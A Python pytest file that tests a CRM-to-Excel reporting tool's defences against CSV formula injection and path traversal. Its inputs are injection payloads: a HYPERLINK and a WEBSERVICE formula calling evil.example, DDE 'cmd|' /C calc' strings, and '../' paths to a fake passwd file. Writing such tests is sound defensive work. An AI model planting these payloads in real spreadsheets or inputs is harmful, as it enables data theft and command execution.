"""Extracts and workbooks are untrusted input: nothing in them runs, reaches outside, or exhausts memory.

* CSV formula injection: every text field that reaches an output CSV starts like a formula, and no
  output cell (or header) of any table may then start like one.
* Files named on Config: only the workbook's folder, unless allowed from outside the workbook; never UNC.
* Errors never quote file contents beyond header names.
* Resource bombs and encrypted or damaged workbooks are one-line refusals (see also test_fuzz_workbook.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import one_error_line

from crm_xl import contract
from crm_xl.cli import main
from crm_xl.config import DEFAULT_SEGMENT_MAP
from crm_xl.io.csv import QUOTE, read_csv, write_csv
from crm_xl.workbook.book import load_raw, new_workbook, set_settings
from crm_xl.workbook.reader import read_settings
from crm_xl.workbook.refresh import refresh_workbook

GOLDEN = Path(__file__).parent / "fixtures" / "golden"
RAW_NAMES = ("transactions", "customers", "products")
NOW = dt.datetime(2025, 1, 2, 3, 4, 5)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ONLY_NUMBERS = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?(, [+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?)*$")


def golden_raw() -> dict[str, pd.DataFrame]:
    return {name: read_csv(GOLDEN / f"{name}.csv", name) for name in RAW_NAMES}


def make_book(path: Path, raw: dict[str, pd.DataFrame] | None = None, **settings: object) -> Path:
    new_workbook(path)
    load_raw(path, golden_raw() if raw is None else raw)
    set_settings(path, {"report_month": "2024-12", "history_months": 24, **settings})
    return path


def csv_cells(path: Path) -> list[list[str]]:
    """Every cell of a written CSV (header first), as a spreadsheet's CSV reader sees the text."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not ONLY_NUMBERS.match(cell)


# --- CSV formula injection -------------------------------------------------------------------------------

#: One attack per text field that reaches an output (ids included: they are text).
ATTACKS = {
    ("customers", "customer_name"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("customers", "customer_group"): "+cmd|' /C calc'!A0",
    ("customers", "city"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("customers", "email"): "-2+3+cmd|' /C calc'!A0",
    ("customers", "mobile_number"): "=1+1",
    ("customers", "=EXTRA"): "\t=cmd|' /C calc'!A0",
    ("products", "product_name"): "=WEBSERVICE(\"http://evil.example\")",
    ("products", "brand"): "\r=1+1",
    ("transactions", "store_id"): "@store",
}
CUSTOMER_PREFIX, PRODUCT_PREFIX, INVOICE_PREFIX = "@", "-", "+"     # ids that start like a formula
CORE, ENTRY = "=consumable", "@device"


def hostile_inputs() -> dict[str, pd.DataFrame]:
    """The golden company with every text value an attack: ids, names, categories, an extra column."""
    raw = {name: frame.astype(object) for name, frame in golden_raw().items()}
    customers, products, transactions = raw["customers"], raw["products"], raw["transactions"]
    customers["=EXTRA"] = "x"
    for (table, column), attack in ATTACKS.items():
        raw[table][column] = attack
    customers["customer_id"] = CUSTOMER_PREFIX + customers["customer_id"].astype(str)
    transactions["customer_id"] = CUSTOMER_PREFIX + transactions["customer_id"].astype(str)
    products["product_id"] = PRODUCT_PREFIX + products["product_id"].astype(str)
    transactions["product_id"] = PRODUCT_PREFIX + transactions["product_id"].astype(str)
    transactions["invoice_id"] = INVOICE_PREFIX + transactions["invoice_id"].astype(str)
    products["category"] = products["category"].replace({"consumable": CORE, "device": ENTRY})
    transactions.loc[transactions.index[:2], "invoice_date"] = "=NOW()"      # rejected: bad_date
    transactions.insert(0, "=NOTE", "x")     # a rejected line's values start with its first column
    return {name: frame.rename(columns={"invoice_id": "=Invoice"}) if name == "transactions" else frame
            for name, frame in raw.items()}


def hostile_settings() -> list[str]:
    segments = "; ".join(f"={name}: {' '.join(cells)}" for name, cells in DEFAULT_SEGMENT_MAP)
    return ["report_month=2024-12", "history_months=24", f"core_categories={CORE}", f"entry_categories={ENTRY}",
            "map.transactions.invoice_id==Invoice", f"segment_map={segments}"]


#: Tables where an attack must show (neutralised): what of the input reaches each one.
REACHES = {
    "customer_snapshot": ATTACKS[("customers", "customer_name")],
    "customer_history": CUSTOMER_PREFIX + "G01",
    "monthly_summary": "=" + DEFAULT_SEGMENT_MAP[0][0],
    "segment_map": "=" + DEFAULT_SEGMENT_MAP[0][0],
    "data_quality": "=NOW()",
    "rejected_lines": "=NOTE=x | invoice_id=+INV",
    "run_info": CORE,
}


def test_no_output_csv_cell_starts_like_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """crm-xl run on inputs whose every text field is an attack: each of the contract's tables is written,
    and no cell or header of any of them would be a formula in a spreadsheet; the attacks that reach
    a table show there with the leading quote, the rest of the text as it was."""
    data = tmp_path / "data"
    data.mkdir()
    for name, frame in hostile_inputs().items():
        frame.to_csv(data / f"{name}.csv", index=False, quoting=csv.QUOTE_ALL)
    out = tmp_path / "out"
    sets = [arg for setting in hostile_settings() for arg in ("--set", setting)]
    assert main(["run", "--data", str(data), "--out", str(out), *sets]) == 0, capsys.readouterr().err
    assert sorted(p.stem for p in out.glob("*.csv")) == sorted(contract.TABLE_NAMES)
    for name in contract.TABLE_NAMES:
        cells = csv_cells(out / f"{name}.csv")
        risky = [cell for row in cells for cell in row if formula_like(cell)]
        assert not risky, f"{name}.csv: {risky[:5]}"
        if name in REACHES:
            shown = [cell for row in cells for cell in row if cell.startswith(QUOTE + REACHES[name])]
            assert shown, f"{name}.csv: the attack {REACHES[name]!r} should show, quoted"
    snapshot = csv_cells(out / "customer_snapshot.csv")
    header = snapshot[0]
    assert QUOTE + "=EXTRA" in header                         # an extra master column's header
    row = dict(zip(header, snapshot[1], strict=True))
    for (table, column), attack in ATTACKS.items():
        if table == "customers" and column != "=EXTRA":
            assert row[column] == QUOTE + attack.strip(), column     # exactly the text, one quote before it


def test_the_rejected_lines_beside_a_workbook_are_inert(tmp_path: Path) -> None:
    raw = golden_raw()
    raw["transactions"] = raw["transactions"].astype(object)
    raw["transactions"].loc[raw["transactions"].index[0], "invoice_date"] = "=cmd|' /C calc'!A0"
    book = make_book(tmp_path / "book.xlsm", raw, **{"map.transactions.invoice_id": ""})
    refresh_workbook(book, now=NOW)
    cells = csv_cells(tmp_path / "book_rejected_lines.csv")
    assert not [c for row in cells for c in row if formula_like(c)]
    assert any("invoice_date==cmd|' /C calc'!A0" in c for row in cells for c in row)


def test_numbers_are_never_quoted(tmp_path: Path) -> None:
    """Negative numbers in number columns, and text that is only numbers, stay as they are."""
    frame = pd.DataFrame({"amount": [-5.5, 3.0], "count": [-2, 1], "text": ["-5", "-7.0, -2.0"],
                          "formula": ["-5+cmd|' /C calc'!A0", "+"]})
    write_csv(frame, tmp_path / "t.csv")
    assert csv_cells(tmp_path / "t.csv") == [["amount", "count", "text", "formula"],
                                             ["-5.5", "-2", "-5", "'-5+cmd|' /C calc'!A0"],
                                             ["3", "1", "-7.0, -2.0", "'+"]]


# --- files named on Config ------------------------------------------------------------------------------


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """A workbook in its own folder (``tmp_path/books``), the golden company in Raw."""
    folder = tmp_path / "books"
    folder.mkdir()
    return make_book(folder / "book.xlsm")


def config_cell(book: Path, key: str) -> str:
    return read_settings(book)[2][key]


def outside_file(tmp_path: Path, text: str = "root:x:0:0:root:/root:/bin/bash\nsecond line\n") -> Path:
    secret = tmp_path / "elsewhere" / "passwd"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(text)
    return secret


def refresh_error(book: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    before = book.read_bytes()
    assert main(["refresh", "--quiet", *args, str(book)]) == 2
    assert book.read_bytes() == before
    return one_error_line(capsys)


@pytest.mark.parametrize("kind", ["relative", "absolute", "home", "symlink"])
def test_a_file_outside_the_workbooks_folder_is_refused(book: Path, tmp_path: Path, kind: str,
                                                        capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    secret = outside_file(tmp_path)
    named = {"relative": "../elsewhere/passwd", "absolute": str(secret), "home": "~/passwd",
             "symlink": "link.csv"}[kind]
    monkeypatch.setenv("HOME", str(secret.parent))
    monkeypatch.setenv("USERPROFILE", str(secret.parent))
    if kind == "symlink":
        (book.parent / "link.csv").symlink_to(secret)
    set_settings(book, {"transactions_file": named})
    err = refresh_error(book, capsys)
    assert config_cell(book, "transactions_file") in err and "outside the workbook's folder" in err, err
    assert "--allow-files-from" in err and "root:x" not in err and "bash" not in err


